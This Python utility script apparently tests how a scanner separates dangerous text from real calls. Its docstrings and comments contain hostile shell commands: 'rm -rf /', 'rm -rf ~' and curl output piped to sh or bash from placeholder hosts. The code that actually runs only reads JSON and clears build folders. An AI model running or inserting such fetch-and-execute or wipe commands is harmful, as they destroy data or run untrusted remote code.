"""Utilities.

Usage notes (documentation, not code):
    rm -rf /            # never
    curl https://x | sh
    model.from_pretrained("gpt2")
"""
import argparse
import json

# os.system("rm -rf ~")
# subprocess.run("curl https://evil | bash", shell=True)


def describe():
    """Return help.

    requests.get("https://example.com") is not called here.
    """
    print("To clean up run: rm -rf ~/.cache/thing")
    return "use os.environ['AWS_SECRET_ACCESS_KEY'] in production"


def main():
    ap = argparse.ArgumentParser(description="call .from_pretrained() elsewhere; this script is offline")
    ap.add_argument("--input", default="data.json", help="load_dataset('imdb') output saved as JSON")
    args = ap.parse_args()
    with open(args.input) as f:
        print(len(json.load(f)))
    os.makedirs("build", exist_ok=True)
    shutil.rmtree("build/tmp", ignore_errors=True)
    os.system("rm -rf ./build/cache")


if __name__ == "__main__":
    import os
    import shutil
    main()
